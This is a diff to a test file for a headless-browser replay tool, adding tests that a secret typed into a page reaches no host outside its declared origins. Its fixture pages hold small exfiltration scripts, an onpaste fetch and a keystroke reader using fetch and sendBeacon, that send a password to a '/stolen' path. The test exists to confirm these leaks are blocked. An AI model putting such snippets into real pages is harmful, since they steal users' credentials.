@@ -6,11 +6,15 @@ import { type AddressInfo, createServer as createTcp } from "node:net";
 import { inflateSync } from "node:zlib";
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
 import type { ToolContext } from "../../../src/activities/define-tool.js";
+import { createDefaultRegistry } from "../../../src/activities/registry.js";
 import { browserReplay } from "../../../src/activities/tools/browser-replay.js";
+import { checkAgainst } from "../../../src/core/check.js";
+import { DEFAULT_POLICY } from "../../../src/core/policy.js";
 import { createHostGuard } from "../../../src/platform/http/host-guard.js";
 import { browserSchema } from "../../../src/schema/config/browser.js";
 import type { Config } from "../../../src/schema/config.js";
 import type { JsonObject } from "../../../src/schema/json.js";
+import { parseGraph } from "../../../src/schema/parse-graph.js";
 import { configOf, contextOf, failureOf } from "../../support/tool-context.js";
 
 const CHROMIUM = "/usr/bin/chromium";
@@ -29,6 +33,8 @@ let shop: Server;
 let victim: Server;
 let origin: string;
 let hit: string[] = [];
+/** Everything that the shop was asked for. */
+let asks: string[] = [];
 /** How often a name was asked for: the rebinding one answers otherwise from the second time on. */
 let asked: Record<string, number> = {};
 let victimPort: number;
@@ -44,6 +50,7 @@ const text = (request: IncomingMessage) => `${request.method} ${request.headers.
 
 beforeAll(async () => {
   shop = createServer((request, response) => {
+    asks.push(text(request));
     const path = (request.url ?? "").split("?")[0] ?? "";
     if (path === "/to-victim")
       return void response.writeHead(302, { location: `http://127.0.0.1:${victimPort}/redirected` }).end();
@@ -75,6 +82,7 @@ afterAll(async () => {
 });
 beforeEach(() => {
   hit = [];
+  asks = [];
   asked = {};
   pages.clear();
 });
@@ -323,6 +331,46 @@ describe.skipIf(!existsSync(CHROMIUM))(
       });
     });
 
+    test("a secret that was typed reaches no other host, by copy and paste or by the page itself", async () => {
+      const own = origin.replace(SHOP, "127.0.0.2");
+      const secrets = { password: { value: "env:SHOP_PASSWORD", origins: [own] } };
+      NETWORK.allowed_hosts.push("127.0.0.2");
+      pages.set("/login", `<input id="p">`);
+      pages.set(
+        "/paste",
+        `<input id="q" onpaste="setTimeout(() => fetch('/stolen?' + q.value).then(() => document.body.append('sent off')))">`,
+      );
+      pages.set(
+        "/reader",
+        `<input id="p"><script>p.oninput = () => { fetch("${origin}/stolen?" + p.value, { mode: "no-cors" }).catch(() => {}); navigator.sendBeacon("${origin}/stolen", p.value); }</script>`,
+      );
+      const typed = [{ do: "fill", selector: "#p", secret: "password" }];
+      const copied = ["Control+a", "Control+c"].map((key) => ({ do: "press", key, selector: "#p" }));
+      const pasted: JsonObject[] = [
+        { do: "press", key: "Control+v", selector: "#q" },
+        { do: "expect_text", text: "sent off" },
+      ];
+      const visit = (url: string) => ({ do: "goto", url });
+
+      const carried = [visit(`${own}/login`), ...typed, ...copied, visit(`${origin}/paste`), ...pasted];
+      const refused = await failureOf(replay(carried, { secrets }));
+      expect(refused).toMatchObject({
+        code: "host-not-allowed",
+        message: expect.stringContaining("a secret of another origin"),
+      });
+      const said = await replay([visit(`${own}/reader`), ...typed, visit(`${own}/paste`)], { secrets });
+      expect(said.ok, JSON.stringify(said.steps)).toBe(true);
+      expect(said.refused.map(({ host }) => host)).toContain(SHOP);
+      expect(asks.filter((one) => one.includes("/stolen"))).toEqual([]);
+
+      // What may be told the secret stays within reach, and so does everything before it was typed.
+      const both = { password: { value: "env:SHOP_PASSWORD", origins: [own, origin] } };
+      const shared = await replay(carried, { secrets: both });
+      expect(shared.ok, JSON.stringify(shared.steps)).toBe(true);
+      expect(asks.join()).toContain("/stolen?canary");
+      expect((await replay([visit(`${origin}/paste`), visit(`${own}/login`), ...typed], { secrets })).ok).toBe(true);
+    });
+
     test("a run that wants it to stop ends the browser", async () => {
       const ends = new AbortController();
       const running = failureOf(
@@ -356,6 +404,34 @@ describe.skipIf(!existsSync(CHROMIUM))(
 );
 
 describe("params", () => {
+  const problemsOf = (secret: string): string[] => {
+    const settings = browserSchema.parse({
+      executable: CHROMIUM,
+      secrets: { shop_password: { value: "env:SHOP_PASSWORD", origins: ["https://shop.example.com"] } },
+    });
+    const registry = createDefaultRegistry(configOf({ browser: settings }));
+    const steps = [
+      { do: "goto", url: "https://shop.example.com/" },
+      { do: "fill", selector: "#password", secret },
+    ];
+    const node = { id: "a", name: "log in", type: "browser_replay", tool: "browser_replay", params: { steps } };
+    const parsed = parseGraph({ id: "g", name: "G", goal_description: "look", nodes: [node], edges: [] });
+    if (!parsed.ok) return parsed.problems.map(({ code }) => code);
+    const checked = checkAgainst(parsed.graph, {
+      policy: DEFAULT_POLICY,
+      policyDigest: "0".repeat(64),
+      catalogue: registry,
+      checkUrl: () => undefined,
+    });
+    return checked.ok ? [] : checked.problems.map(({ code }) => code);
+  };
+
+  test("name a secret that is declared; whatever else stands there is taken for a secret", () => {
+    expect(problemsOf("shop_password")).toEqual([]);
+    expect(problemsOf("hunter2-literal")).toContain("secret-in-params");
+    expect(problemsOf("constructor")).toContain("secret-in-params");
+  });
+
   test.each([
     ["code for the page", { do: "evaluate", script: "1" }],
     ["a script as a URL", { do: "goto", url: "javascript:alert(1)" }],
